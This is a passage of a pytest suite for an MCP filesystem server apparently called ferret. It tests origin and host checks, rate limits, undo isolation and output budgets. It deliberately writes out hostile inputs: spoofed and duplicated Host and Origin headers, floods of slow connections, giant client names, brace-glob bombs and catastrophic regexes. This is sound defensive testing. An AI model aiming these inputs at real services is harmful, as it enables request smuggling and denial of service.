        assert r.status_code == 200
        assert alive(ids[2])
    finally:
        stop(proc)


def test_http_rejections_are_audited_and_the_log_is_rate_limited(ws, tmp_path):
    audit = tmp_path / "audit.jsonl"
    proc, url = start_http(ws, "--audit-log", str(audit), serve=("--max-body", "1000"))
    try:
        assert httpx2.post(url, json=INIT, headers={**HEADERS, **AUTH, "Origin": "http://evil.example"}).status_code == 403
        big = {**INIT, "params": {**INIT["params"], "padding": "x" * 5000}}
        assert httpx2.post(url, json=big, headers={**HEADERS, **AUTH}).status_code == 413
        for _ in range(60):
            assert httpx2.post(url, json=INIT, headers={**HEADERS, "Authorization": "Bearer nope"}).status_code == 401
    finally:
        stop(proc)
    records = audit_records(audit)
    codes = [r.get("code") for r in records]
    assert "HTTP_403" in codes and "HTTP_413" in codes, codes
    forbidden = next(r for r in records if r.get("code") == "HTTP_403")
    assert "evil.example" in forbidden["reason"] and forbidden["result"] == "denied"
    # 62 rejections in well under the window: 20 are recorded one by one.
    assert len([c for c in codes if c and c.startswith("HTTP_")]) == 20, codes


def test_http_origin_port_wildcard_matches_numeric_ports_only(http_server):
    for origin in ("http://localhost:evil.com", "http://localhost:80abc", "http://localhost.evil.com",
                   "http://localhost:1234@evil.com", "http://localhost:*", "https://localhost:1234"):
        r = httpx2.post(http_server, json=INIT, headers={**HEADERS, **AUTH, "Origin": origin})
        assert r.status_code == 403, (origin, r.status_code)
    for origin in ("http://localhost:1234", "http://127.0.0.1:9", "http://[::1]:65535"):
        r = httpx2.post(http_server, json=INIT, headers={**HEADERS, **AUTH, "Origin": origin})
        assert r.status_code == 200, (origin, r.status_code)


@pytest.mark.anyio
async def test_http_a_big_result_never_drops_the_session(ws):
    """The Python SDK drops a session on an SSE event over 1 MiB: a big read must come
    back cut to the output budget, or as RESULT_TOO_LARGE, and the session go on."""
    (ws / "big.txt").write_text(("y" * 99 + "\n") * 5_500)  # 550 KB
    for extra, expect_error in (((), False), (("--set", "max_output_chars=0"), True)):
        proc, url = start_http(ws, *extra)
        try:
            async with http_client(url) as c:
                r = await c.call_tool("read_file", {"path": "big.txt"})
                if expect_error:
                    assert r.is_error and text(r).startswith("RESULT_TOO_LARGE"), text(r)[:200]
                    assert "offset" in text(r)
                else:
                    assert not r.is_error, text(r)[:200]
                r = await c.call_tool("read_file", {"path": "a.txt"})
                assert r.structured_content["content"] == "hello\nworld\n"
        finally:
            stop(proc)


def test_non_loopback_bind_without_token_refuses_to_start(ws):
    r = subprocess.run([FERRET, "--root", str(ws), "serve", "--http", "0.0.0.0:0"],
                       capture_output=True, text=True, timeout=20, env={"PATH": os.environ.get("PATH", "")})
    assert r.returncode == 2
    assert "token" in r.stderr and "0.0.0.0" in r.stderr


def test_stdout_carries_only_protocol_messages(ws):
    """Logs go to stderr: every stdout line of a stdio session is a JSON-RPC message."""
    msgs = [INIT, {"jsonrpc": "2.0", "method": "notifications/initialized"},
            {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "read_file", "arguments": {"path": ".env"}}}]
    stdin = "".join(json.dumps(m) + "\n" for m in msgs)
    r = subprocess.run([FERRET, "--root", str(ws), "serve"], input=stdin, capture_output=True, text=True,
                       timeout=20, env={"PATH": os.environ.get("PATH", ""), "FERRET_LOG": "debug"})
    lines = [line for line in r.stdout.splitlines() if line.strip()]
    assert len(lines) == 2
    for line in lines:
        assert json.loads(line)["jsonrpc"] == "2.0"
    assert json.loads(lines[1])["result"]["isError"] is True


def test_serve_on_a_terminal_says_what_it_is_waiting_for(ws):
    """Run by hand, `ferret serve` says on stderr that it speaks MCP and how to connect."""
    import pty
    leader, follower = pty.openpty()
    proc = subprocess.Popen([FERRET, "--root", str(ws), "serve"], stdin=follower,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    os.close(follower)
    try:
        line = proc.stderr.readline()
        assert "speaking MCP on stdin/stdout" in line, line
        assert "ferret grep" in line
    finally:
        proc.kill()
        proc.wait(timeout=10)
        os.close(leader)
    # without a terminal, nothing is said (stdout and stderr stay clean for clients)
    r = subprocess.run([FERRET, "--root", str(ws), "serve"], input="", capture_output=True, text=True, timeout=20)
    assert "speaking MCP" not in r.stderr


@pytest.mark.parametrize("answer", ["y", "n"])
def test_the_cli_asks_y_n_on_a_terminal(ws, tmp_path, answer):
    """Seed 003 asks before a permanent delete: on a terminal the CLI asks y/N itself."""
    import pty
    import select
    pid, fd = pty.fork()
    if pid == 0:
        os.execv(FERRET, [FERRET, "--root", str(ws), "--allow-write", "--state-dir", str(tmp_path / "s"),
                          "rm", "a.txt", "--permanent"])
    seen = b""
    deadline = time.monotonic() + 20
    while b"[y/N]" not in seen and time.monotonic() < deadline:
        if select.select([fd], [], [], 0.5)[0]:
            try:
                seen += os.read(fd, 1024)
            except OSError:
                break
    assert b"permanently deleting a.txt" in seen and b"[y/N]" in seen, seen
    os.write(fd, (answer + "\n").encode())
    _, status = os.waitpid(pid, 0)
    os.close(fd)
    if answer == "y":
        assert os.waitstatus_to_exitcode(status) == 0
        assert not (ws / "a.txt").exists()
    else:
        assert os.waitstatus_to_exitcode(status) == 2
        assert (ws / "a.txt").exists()


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_an_agents_undo_never_reverts_a_persons_or_another_sessions_change(ws, tmp_path, mode):
    """Issue #25 class 9: the person edits with `ferret edit`; two agent servers share the
    state directory (the default). Each `undo {}` reverts only its own session's change; the
    person's comes back only by its id, with the user's yes."""
    state = str(tmp_path / "state")
    (ws / "person.txt").write_text("person v1\n")
    (ws / "one.txt").write_text("v1\n")
    (ws / "two.txt").write_text("v1\n")
    r = subprocess.run([FERRET, "--root", str(ws), "--state-dir", state, "--allow-write",
                        "edit", "person.txt", "--old", "v1", "--new", "v2"], capture_output=True)
    assert r.returncode == 0, r.stderr
    async with stdio(ws, "--allow-write", "--state-dir", state, mode=mode) as a, \
            stdio(ws, "--allow-write", "--state-dir", state, mode=mode) as b:
        tools = {t.name: t for t in (await a.list_tools()).tools}
        assert "your session's" in tools["undo"].description
        for c, f in [(a, "one.txt"), (b, "two.txt")]:
            r = await c.call_tool("edit", {"path": f, "old_string": "v1", "new_string": "v2"})
            assert not r.is_error, text(r)
        r = await a.call_tool("undo", {})
        assert not r.is_error, text(r)
        assert (ws / "one.txt").read_text() == "v1\n"
        assert (ws / "two.txt").read_text() == "v2\n", "b's change stays"
        r = await a.call_tool("undo", {})
        assert r.is_error and text(r).startswith("NOT_FOUND"), text(r)
        assert (ws / "person.txt").read_text() == "person v2\n", "the person's change stays"
        assert (ws / "two.txt").read_text() == "v2\n"
        r = await a.call_tool("undo", {"id": 1})
        assert r.is_error and "CONFIRMATION_REQUIRED" in text(r), text(r)
        assert (ws / "person.txt").read_text() == "person v2\n"
    r = subprocess.run([FERRET, "--root", str(ws), "--state-dir", state, "history"], capture_output=True, text=True)
    assert "by cli" in r.stdout and "by mcp session" in r.stdout, r.stdout


# --- HTTP, round 3: budgets on established identity, bounded maps, ambiguous headers,
# never-read streams, slow clients ----------------------------------------------------


def start_http_r3(ws, *extra, serve=(), token=True):
    """start_http, with or without a token (without one, the peer is the principal)."""
    auth = ("--token", TOKEN) if token else ()
    proc = subprocess.Popen(
        [FERRET, "--root", str(ws), *extra, "serve", "--http", "127.0.0.1:0", *auth, *serve],
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        m = re.search(r"serving MCP at (http://\S+)", proc.stderr.readline())
        if m:
            return proc, m.group(1)
    proc.kill()
    raise AssertionError("server did not start")


def named_client(url, name, mode, token=True):
    from mcp import types
    hc = httpx2.AsyncClient(headers=AUTH if token else {}, timeout=30)
    return Client(streamable_http_client(url, http_client=hc), mode=mode,
                  client_info=types.Implementation(name=name, version="0"))


def rss_kib(pid):
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


@pytest.mark.anyio
@pytest.mark.parametrize("token", [True, False])
async def test_http_client_names_never_buy_a_fresh_budget(ws, tmp_path, token):
    """The round budget is keyed on what the server established (the token, else the
    peer), never on clientInfo.name: ten clients with ten names, over stateless requests,
    legacy sessions and a pinned 2026 client, share one budget of six requests; the names
    reach the audit log cut to 256 bytes."""
    audit = tmp_path / "audit.jsonl"
    # Eight requests: six calls and the opening of the legacy sessions of i = 1 and 4 (an
    # initialize is a request, issue 25); i = 7's legacy session is refused its opening.
    proc, url = start_http_r3(ws, "--audit-log", str(audit), "--set", "max_requests_per_round=8",
                              token=token)
    long_name = "L" * 50_000
    try:
        outcomes = []
        modes = ["auto", "legacy", "2026-07-28"]
        for i in range(10):
            name = long_name + str(i) if i % 4 == 1 else f"agent-{i}"
            try:
                async with named_client(url, name, modes[i % 3], token=token) as c:
                    r = await c.call_tool("file_exists", {"path": "a.txt"})
                    outcomes.append(r.is_error and text(r).startswith("RATE_LIMIT_EXCEEDED"))
            except Exception:
                outcomes.append("not opened")
        assert outcomes == [False] * 6 + [True, "not opened", True, True], outcomes
    finally:
        stop(proc)
    assert "HTTP_429" in [r.get("code") for r in audit_records(audit)]
    records = [r for r in audit_records(audit) if r["operation"] == "file_exists"]
    assert len(records) == 9
    assert {r["principal"] for r in records} == {"http-token" if token else "http-loopback"}
    for r in records:
        assert len(r["agent_id"].encode()) <= 256, len(r["agent_id"])
    assert any(r["agent_id"].startswith("LLLL") for r in records)
    assert any(r["agent_id"] == "agent-0" for r in records)


@pytest.mark.anyio
async def test_http_thousands_of_client_names_keep_the_server_small(ws):
    """300 requests with distinct 1 MiB client names took the server to 915 MB (each name a
    budget entry, kept again by the audit window). Now names are cut and budgets keyed on
    the token: the server grows by far less than the names it was sent."""
    proc, url = start_http_r3(ws, "--set", "max_requests_per_round=0")
    try:
        # Warm up (the index, the allocator's arenas), then measure.
        async with named_client(url, "warm", "2026-07-28") as c:
            await c.call_tool("file_exists", {"path": "a.txt"})
        before = rss_kib(proc.pid)
        for i in range(120):
            name = f"{i:04}" + "N" * (1 << 20)
            async with named_client(url, name, "2026-07-28") as c:
                r = await c.call_tool("file_exists", {"path": "a.txt"})
                assert not r.is_error, text(r)
        grown_mib = (rss_kib(proc.pid) - before) / 1024
        # 120 MiB of names were sent; before the fix at least twice that stayed.
        assert grown_mib < 60, f"the server grew by {grown_mib:.0f} MiB"
        # A legacy session keeps its initialize: a huge one is refused outright.
        big = {**INIT, "params": {**INIT["params"], "clientInfo": {"name": "N" * 100_000, "version": "0"}}}
        r = httpx2.post(url, json=big, headers={**HEADERS, **AUTH})
        assert r.status_code == 413 and "initialize" in r.text, r.status_code
        # ...and a long name under the bound is cut, the session served.
        ok = {**INIT, "params": {**INIT["params"], "clientInfo": {"name": "N" * 30_000, "version": "0"}}}
        assert httpx2.post(url, json=ok, headers={**HEADERS, **AUTH}).status_code == 200
    finally:
        stop(proc)


def raw_request(host, port, head, body=b"", timeout=5):
    """Sends one raw HTTP/1.1 request; returns (status, body text)."""
    import socket
    s = socket.create_connection((host, port), timeout=timeout)
    try:
        s.sendall(head.encode() + body)
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
        head_part, _, rest = data.partition(b"\r\n\r\n")
        status = int(head_part.split(b" ")[1]) if head_part.startswith(b"HTTP/1.1") else 0
        m = re.search(rb"content-length: *(\d+)", head_part, re.I)
        if m:
            while len(rest) < int(m.group(1)):
                chunk = s.recv(65536)
                if not chunk:
                    break
                rest += chunk
        return status, rest.decode(errors="replace")
    finally:
        s.close()


def test_http_duplicate_or_listed_host_and_origin_are_refused(ws, tmp_path):
    """A proxy and this server could each read a different Host or Origin when there are
    two, in any spelling, or one holding a list: such requests are refused (400) and
    audited, before rmcp's allow-lists read only the first."""
    audit = tmp_path / "audit.jsonl"
    proc, url = start_http_r3(ws, "--audit-log", str(audit))
    try:
        host, port = host_port(url)
        body = json.dumps(INIT).encode()
        good = f"127.0.0.1:{port}"
        common = (f"Authorization: Bearer {TOKEN}\r\nContent-Type: application/json\r\n"
                  f"Accept: application/json, text/event-stream\r\nContent-Length: {len(body)}\r\n")
        variants = [
            ("/mcp", f"Host: {good}\r\nhost: evil.example\r\n"),
            ("/mcp", f"HOST: evil.example\r\nHost: {good}\r\n"),
            ("/mcp", f"Host: {good}\r\nHost: {good}\r\n"),
            ("/mcp", f"Host: {good}, evil.example\r\n"),
            ("/mcp", f"Host: {good},evil.example\r\n"),
            ("/mcp", f"Host: {good}\r\nOrigin: http://localhost:1\r\norigin: http://evil.example\r\n"),
            ("/mcp", f"Host: {good}\r\nORIGIN: http://evil.example\r\nOrigin: http://localhost:1\r\n"),
            ("/mcp", f"Host: {good}\r\nOrigin: http://localhost:1, http://evil.example\r\n"),
            ("http://evil.example/mcp", f"Host: {good}\r\n"),
        ]
        for target, headers in variants:
            status, text_ = raw_request(host, port, f"POST {target} HTTP/1.1\r\n{headers}{common}\r\n", body)
            assert status == 400, (headers, status, text_)
            assert "Host" in text_ or "Origin" in text_ or "host" in text_, text_
        status, _ = raw_request(host, port, f"POST /mcp HTTP/1.1\r\nHost: {good}\r\n"
                                f"Origin: http://localhost:1\r\n{common}\r\n", body)
        assert status == 200
    finally:
        stop(proc)
    refused = [r for r in audit_records(audit) if r.get("code") == "HTTP_400"]
    assert len(refused) == len(variants), [r.get("reason") for r in refused]
    assert all(r["result"] == "denied" for r in refused)
    assert any("more than one Host" in r["reason"] and "evil.example" in r["reason"] for r in refused)


def open_session(url):
    r = httpx2.post(url, json=INIT, headers={**HEADERS, **AUTH})
    assert r.status_code == 200
    sid = r.headers["mcp-session-id"]
    note = {"jsonrpc": "2.0", "method": "notifications/initialized"}
    httpx2.post(url, json=note, headers={**HEADERS, **AUTH, "Mcp-Session-Id": sid,
                                         "MCP-Protocol-Version": "2025-11-25"})
    return sid


def open_stream(host, port, sid):
    """A standalone event stream (GET) that is never read; returns the socket and status."""
    import socket
    s = socket.create_connection((host, port), timeout=5)
    s.sendall((f"GET /mcp HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nAuthorization: Bearer {TOKEN}\r\n"
               f"Accept: text/event-stream\r\nMcp-Session-Id: {sid}\r\n"
               f"MCP-Protocol-Version: 2025-11-25\r\n\r\n").encode())
    head = b""
    while b"\r\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            break
        head += chunk
    return s, int(head.split(b" ")[1]) if head.startswith(b"HTTP/1.1") else 0


@pytest.mark.anyio
async def test_http_never_read_streams_do_not_block_a_new_client(ws, tmp_path):
    """Event streams nobody reads held every connection slot. A session may hold four
    streams (the fifth is 429), and at the connection cap a stream is closed to make room
    for a new client rather than the client being refused."""
    audit = tmp_path / "audit.jsonl"
    proc, url = start_http_r3(ws, "--audit-log", str(audit), serve=("--max-connections", "12"))
    held = []
    try:
        host, port = host_port(url)
        sessions = [open_session(url) for _ in range(3)]
        for sid in sessions[:2]:
            for _ in range(4):
                s, status = open_stream(host, port, sid)
                assert status == 200, status
                held.append(s)
        s, status = open_stream(host, port, sessions[0])
        assert status == 429, status
        s.close()
        for _ in range(4):
            s, status = open_stream(host, port, sessions[2])
            assert status == 200, status
            held.append(s)
        # Every slot holds a never-read stream: a new client is still served, fast.
        for mode in ("auto", "legacy"):
            started = time.monotonic()
            async with http_client(url, mode=mode) as c:
                r = await c.call_tool("read_file", {"path": "a.txt"})
                assert r.structured_content["content"] == "hello\nworld\n"
            assert time.monotonic() - started < 5
        assert sum(closed_within(s, 0.2) for s in held) >= 1, "no stream was closed for room"
    finally:
        for s in held:
            s.close()
        stop(proc)
    codes = [r.get("code") for r in audit_records(audit)]
    assert "CONNECTION_EVICTED" in codes and "HTTP_429" in codes, codes


def test_http_slow_connections_do_not_block_a_normal_request(ws, tmp_path):
    """~370 connections that never finished their headers got a normal request reset (the
    cap of 256 was itself the denial of service). With 600 slow connections of three
    kinds (nothing sent, half a header, a header then a trickled body) held open, a
    normal request is answered within 5 s: the oldest idle connections make room."""
    import resource
    import socket
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 4096)), hard))
    audit = tmp_path / "audit.jsonl"
    proc, url = start_http_r3(ws, "--audit-log", str(audit), serve=("--read-timeout", "30"))
    slow = []
    try:
        host, port = host_port(url)
        for i in range(600):
            s = socket.create_connection((host, port))
            if i % 3 == 1:
                s.sendall(b"POST /mcp HTTP/1.1\r\nHost: loc")
            elif i % 3 == 2:
                s.sendall((f"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nAuthorization: Bearer {TOKEN}\r\n"
                           "Content-Type: application/json\r\nContent-Length: 500\r\n\r\n{").encode())
            slow.append(s)
        for _ in range(3):
            started = time.monotonic()
            r = httpx2.post(url, json=INIT, headers={**HEADERS, **AUTH}, timeout=10)
            took = time.monotonic() - started
            assert r.status_code == 200 and took < 5, (r.status_code, took)
        # The cap still holds: most slow connections were closed to make room.
        closed = sum(closed_within(s, 0.05) for s in slow[:300])
        assert closed >= 200, closed
    finally:
        for s in slow:
            s.close()
        stop(proc)
    codes = [r.get("code") for r in audit_records(audit)]
    assert "CONNECTION_EVICTED" in codes, codes


@pytest.mark.anyio
async def test_hostile_request_shapes_are_refused_and_structured_results_fit_the_budget(tmp_path):
    """Issue #25 round 3: a 4 MB brace glob, a 4 MB literal and a nested repetition are
    refused with their codes before any work, the session keeps serving, and a glob asked
    for every match returns structured content within max_output_chars that still
    validates against the tool's output schema."""
    root = tmp_path / "many"
    for d in range(30):
        sub = root / f"d{d:02}"
        sub.mkdir(parents=True)
        for i in range(100):
            (sub / (f"{'n' * 60}{i:03}.txt")).write_text("NEEDLE\n")
    budget = 20_000
    async with stdio(root, "--set", f"max_output_chars={budget}", "--set", "max_bytes_per_round=0") as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        braces = "*.{" + ",".join(f"e{i}" for i in range(300_000)) + "}"
        for name, args, code in [
            ("glob", {"pattern": braces}, "INVALID_GLOB"),
            ("grep", {"pattern": "x" * (4 << 20), "fixed_strings": True}, "INVALID_ARGUMENT"),
            ("grep", {"pattern": "(a{1000}){1000}"}, "INVALID_REGEX"),
            ("grep", {"pattern": "NEEDLE", "glob": braces}, "INVALID_GLOB"),
        ]:
            r = await c.call_tool(name, args)
            assert r.is_error and code in text(r), (name, text(r)[:300])
        for name, args, total in [
            ("glob", {"pattern": "*.txt", "max_results": 0}, "count"),
            ("grep", {"pattern": "NEEDLE", "max_results": 0}, "file_count"),
        ]:
            r = await c.call_tool(name, args)
            assert not r.is_error, text(r)[:300]
            assert len(json.dumps(r.structured_content, separators=(",", ":"))) <= budget
            assert r.structured_content[total] == 3000
            assert r.structured_content["truncated"] is True
            jsonschema.validate(r.structured_content, tools[name].output_schema)
            assert len(text(r)) <= budget


# Issue 26 (everyday use), brief 26A: budgets that fit the transport, `ferret call` is the
# MCP tool, a slow search returns what it found, GET /health.

EVERYDAY_CALLS = [
    ("file_exists", {"path": "a.txt"}),
    ("read_file", {"path": "src/main.rs"}),
    ("grep", {"pattern": "TODO", "output_mode": "content"}),
    ("glob", {"pattern": "*.rs"}),
    ("list_directory", {"path": "."}),
    ("get_file_info", {"path": "a.txt"}),
    ("read_files", {"paths": ["a.txt", "src/main.rs"]}),
    ("grep", {"pattern": "o", "output_mode": "count"}),
]


def received(r):
    """What a model can receive of a successful result: the larger of its text and its
    structured content (compact JSON), in bytes."""
    t = len(text(r).encode())
    if r.structured_content is None:
        return t
    return max(t, len(json.dumps(r.structured_content, separators=(",", ":"), ensure_ascii=False).encode()))


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_everyday_stdio_defaults_take_300_mixed_calls_and_charge_what_is_returned(ws, tmp_path, mode):
    """With the default configuration, 300 mixed calls within a minute all succeed over
    stdio (the old budget stopped the 51st), and the bytes charged to the round (the
    audit's bytes_sent) equal, call by call, the content returned."""
    audit = tmp_path / "audit.jsonl"
    returned = []
    started = time.monotonic()
    async with stdio(ws, "--audit-log", str(audit), mode=mode) as c:
        for i in range(300):
            name, args = EVERYDAY_CALLS[i % len(EVERYDAY_CALLS)]
            r = await c.call_tool(name, args)
            assert not r.is_error, (i + 1, name, text(r))
            returned.append(received(r))
    assert time.monotonic() - started < 60, "300 calls took over a minute: the test proves nothing"
    records = [e for e in audit_records(audit) if e.get("operation") != "http"]
    assert len(records) == 300
    assert [e["bytes_sent"] for e in records] == returned


@pytest.mark.anyio
async def test_everyday_an_explicit_request_budget_still_applies_over_stdio(ws):
    async with stdio(ws, "--set", "max_requests_per_round=50") as c:
        for i in range(50):
            name, args = EVERYDAY_CALLS[i % len(EVERYDAY_CALLS)]
            assert not (await c.call_tool(name, args)).is_error
        r = await c.call_tool("file_exists", {"path": "a.txt"})
        assert r.is_error and text(r).startswith("RATE_LIMIT_EXCEEDED"), text(r)


@pytest.mark.anyio
async def test_everyday_ferret_call_prints_at_most_what_mcp_would(tmp_path):
    """`ferret call grep` with a huge max_results prints what the same call over stdio
    MCP returns (text, and structured JSON), within max_output_chars; --full prints all."""
    root = tmp_path / "many"
    for d in range(10):
        sub = root / f"dir{d}"
        sub.mkdir(parents=True)
        for i in range(300):
            (sub / f"file{i:03}.txt").write_text(f"hello {d} {i}, a line long enough to count\n")
    args = {"pattern": "hello", "output_mode": "content", "max_results": 10_000_000}
    async with stdio(root, "--set", "max_bytes_per_round=0") as c:
        r = await c.call_tool("grep", args)
    assert not r.is_error

    def cli(*extra):
        out = subprocess.run([FERRET, "--root", str(root), "call", "grep", json.dumps(args), *extra],
                             capture_output=True, text=True, timeout=60)
        assert out.returncode == 0, out.stderr
        return out.stdout

    budget = 80_000
    shown = cli("--text")
    assert len(shown) <= budget + 1
    assert shown.rstrip("\n") == text(r).rstrip("\n")
    assert "max_output_chars" in shown
    structured = json.loads(cli())
    structured.pop("engine"), r.structured_content.pop("engine")
    assert structured == r.structured_content
    full = cli("--text", "--full")
    assert sum(1 for line in full.splitlines() if ":1:hello" in line) == 3000
    assert len(full) > 2 * budget


@pytest.mark.anyio
async def test_everyday_a_time_limited_grep_returns_partial_results_marked_incomplete(big):
    """Past its time limit a search answers with what it found, marked incomplete in the
    text and the structured result (which still validates against the output schema);
    one that found nothing by then is TIMEOUT."""
    for d in range(20):
        (big / f"d{d:02}" / "f000.txt").write_text("NEEDLE 1\n")
    params = StdioServerParameters(command=FERRET, args=[
        "--root", str(big), "--set", "request_timeout=50ms", "--set", "tools=grep,glob", "serve", "--no-index"])
    async with Client(params) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        r = await c.call_tool("grep", {"pattern": r"lorem|NEEDLE", "output_mode": "count"})
        assert not r.is_error, text(r)
        sc = r.structured_content
        assert sc["truncated"] is True
        assert sc["incomplete"]["reason"] == "time limit"
        assert 0 < sc["file_count"] < 2001
        assert 0 < sc["incomplete"]["files_searched"] < 2001
        assert "[incomplete (time limit)" in text(r)
        jsonschema.validate(sc, tools["grep"].output_schema)
        r = await c.call_tool("grep", {"pattern": SLOW})
        assert r.is_error and text(r).startswith("TIMEOUT"), text(r)[:300]


def test_everyday_health_is_unauthenticated_tiny_and_checks_host(ws, tmp_path):
    """GET /health: 200 {"status":"ok"} with no token, a wrong one or the right one, and
    nothing else; a Host that is not this server's, or any Origin, is refused (403)."""
    proc, url = start_http(ws)
    try:
        _, port = host_port(url)
        health = url.replace("/mcp", "/health")
        for auth in ({}, {"Authorization": "Bearer nope"}, {"Authorization": f"Bearer {TOKEN}"}):
            r = httpx2.get(health, headers=auth)
            assert r.status_code == 200, (auth, r.status_code)
            assert r.json() == {"status": "ok"}
            assert VERSION not in r.text and str(ws) not in r.text
        assert httpx2.post(url, json=INIT, headers=HEADERS).status_code == 401
        for headers in ({"Host": "evil.example"}, {"Host": f"evil.example:{port}"},
                        {"Origin": "http://evil.example"}, {"Origin": f"http://localhost:{port}"}):
            r = httpx2.get(health, headers=headers)
            assert r.status_code == 403, (headers, r.status_code)
            assert "ok" not in r.text
    finally:
        stop(proc)


# Issue 26, items 6-8 (the token diet, lenient schemas, receipts): through the official SDK.

WRITE_TOOLS = ["edit", "write_file", "move", "apply_patch", "notebook_edit", "file_delete", "undo"]


def _sent_size(tool):
    """A tool definition's characters as a client receives it (compact JSON)."""
    return len(json.dumps(tool.model_dump(by_alias=True, exclude_none=True, mode="json"),
                          separators=(",", ":"), ensure_ascii=False))


@pytest.mark.anyio
async def test_diet_tools_list_is_at_most_1000_characters_a_tool(ws, tmp_path):
    """The official filesystem server's 14 tools were 975 characters a tool (issue 26);
    ferret's 7 were 2,589. Both sets, as the SDK receives them, stay within 1,000 a tool,
    and every schema is still valid draft 2020-12."""
    for extra, expected in [((), DEFAULT_TOOLS),
                            (("--allow-write", "--state-dir", str(tmp_path / "s")), DEFAULT_TOOLS + WRITE_TOOLS)]:
        async with stdio(ws, *extra) as c:
            tools = (await c.list_tools()).tools
            assert [t.name for t in tools] == expected
            sizes = {t.name: _sent_size(t) for t in tools}
            assert sum(sizes.values()) / len(sizes) <= 1000, sizes
            for t in tools:
                jsonschema.Draft202012Validator.check_schema(t.input_schema)
                jsonschema.Draft202012Validator.check_schema(t.output_schema)
                assert '"default": null' not in json.dumps(t.input_schema), t.name


def _scalar_fields(schema):
    """The top-level numeric and boolean parameters of an input schema."""
    for name, s in schema.get("properties", {}).items():
        if any(b.get("type") == "integer" for b in s.get("anyOf", [])):
            yield name, "number", s
        elif True in s.get("enum", []):
            yield name, "boolean", s


@pytest.mark.anyio
async def test_diet_numbers_and_booleans_as_text_are_in_the_schema_and_taken(ws, tmp_path):
    """What the schema admits, the server takes: "5" and 5, "true" and true; "five" is
    refused by both, the server with INVALID_ARGUMENT naming the field and a hint."""
    async with stdio(ws, "--allow-write", "--state-dir", str(tmp_path / "s")) as c:
        tools = (await c.list_tools()).tools
        seen = 0
        for t in tools:
            for name, kind, s in _scalar_fields(t.input_schema):
                v = jsonschema.Draft202012Validator(s)
                good = [5, "5"] if kind == "number" else [True, False, "true", "false"]
                for x in good:
                    assert v.is_valid(x), (t.name, name, x, s)
                assert not v.is_valid("five"), (t.name, name, s)
                seen += 1
        assert seen >= 20, seen
        r = await c.call_tool("read_file", {"path": "a.txt", "offset": "2"})
        assert not r.is_error, text(r)
        assert r.structured_content["content"] == "world\n"
        r = await c.call_tool("grep", {"pattern": "todo", "ignore_case": "true", "output_mode": "content",
                                       "context": "1", "max_results": "10"})
        assert not r.is_error, text(r)
        assert r.structured_content["file_count"] == 1
        r = await c.call_tool("read_file", {"path": "a.txt", "limit": "five"})
        assert r.is_error
        assert text(r).startswith("INVALID_ARGUMENT") and "`limit`" in text(r) and "Hint:" in text(r), text(r)
        r = await c.call_tool("grep", {"pattern": "todo", "-i": True})
        assert r.is_error and "`ignore_case`" in text(r), text(r)


@pytest.mark.anyio
async def test_diet_receipts_name_the_change_and_validate_never_a_host_path(ws, tmp_path):
    """Every change's result validates against its (compact) output schema, names its
    change id, and neither its text (what the model reads) nor its structured content
    (what programs read) carries a host path: not the backup's, not the state dir's."""
    state = tmp_path / "state"
    async with stdio(ws, "--allow-write", "--state-dir", str(state)) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        (ws / "b.txt").write_text("bee\n")
        steps = [
            ("edit", {"path": "a.txt", "old_string": "hello", "new_string": "bye"}),
            ("write_file", {"path": "a.txt", "content": "new\n", "overwrite": True}),
            ("move", {"source": "b.txt", "destination": "a.txt", "overwrite": True}),
            ("apply_patch", {"changes": [{"path": "a.txt", "edits": [{"old_string": "bee", "new_string": "b"}]}]}),
            ("file_delete", {"path": "a.txt"}),
            ("undo", {}),
        ]
        for name, args in steps:
            r = await c.call_tool(name, args)
            assert not r.is_error, (name, text(r))
            jsonschema.validate(r.structured_content, tools[name].output_schema)
            for part in (text(r), json.dumps(r.structured_content)):
                assert str(state) not in part and str(state.resolve()) not in part, (name, part)
                assert ".bak" not in part, (name, part)
            assert "backup" not in r.structured_content, name
            assert isinstance(r.structured_content.get("change_id"), int), (name, r.structured_content)
        # A move onto a directory says which destination would move it inside.
        (ws / "docs").mkdir()
        r = await c.call_tool("move", {"source": "src", "destination": "docs"})
        assert r.is_error and "ALREADY_EXISTS" in text(r) and "docs/src" in text(r), text(r)
        # A confirm-listed edit says how to confirm, not how to allow permanent deletes.
        (ws / ".gitignore").write_text("target\n")
        r = await c.call_tool("edit", {"path": ".gitignore", "old_string": "target", "new_string": "build"})
        assert r.is_error and "CONFIRMATION_REQUIRED" in text(r), text(r)
        assert "permanent" not in text(r) and "--yes" in text(r), text(r)


# Issue 26 item 2 (brief R5D): one rule for what exists; the listing says what it left out.


@pytest.mark.anyio
@pytest.mark.parametrize("mode", MODES)
async def test_list_directory_accounts_for_what_it_left_out_over_mcp(ws, mode):
    """Over MCP the listing agrees with glob on gitignored files, marks skipped folders
    and links leading outside, counts what it hides (never a secret), and validates
    against its output schema; no_ignore lists what glob's no_ignore finds."""
    (ws / ".gitignore").write_text("*.log\n")
    (ws / "debug.log").write_text("x\n")
    (ws / "node_modules" / "pkg").mkdir(parents=True)
    (ws / "node_modules" / "pkg" / "index.js").write_text("x\n")
    (ws / "id_rsa").write_text("key\n")
    async with stdio(ws, mode=mode) as c:
        tools = {t.name: t for t in (await c.list_tools()).tools}
        r = await c.call_tool("list_directory", {"path": "."})
        assert not r.is_error, text(r)
        jsonschema.validate(r.structured_content, tools["list_directory"].output_schema)
        entries = {e["name"]: e for e in r.structured_content["entries"]}
        assert sorted(entries) == ["a.txt", "node_modules", "out", "src"], entries
        assert entries["node_modules"].get("note") == "skipped"
        assert entries["out"] == {"name": "out", "type": "symlink", "note": "outside"}
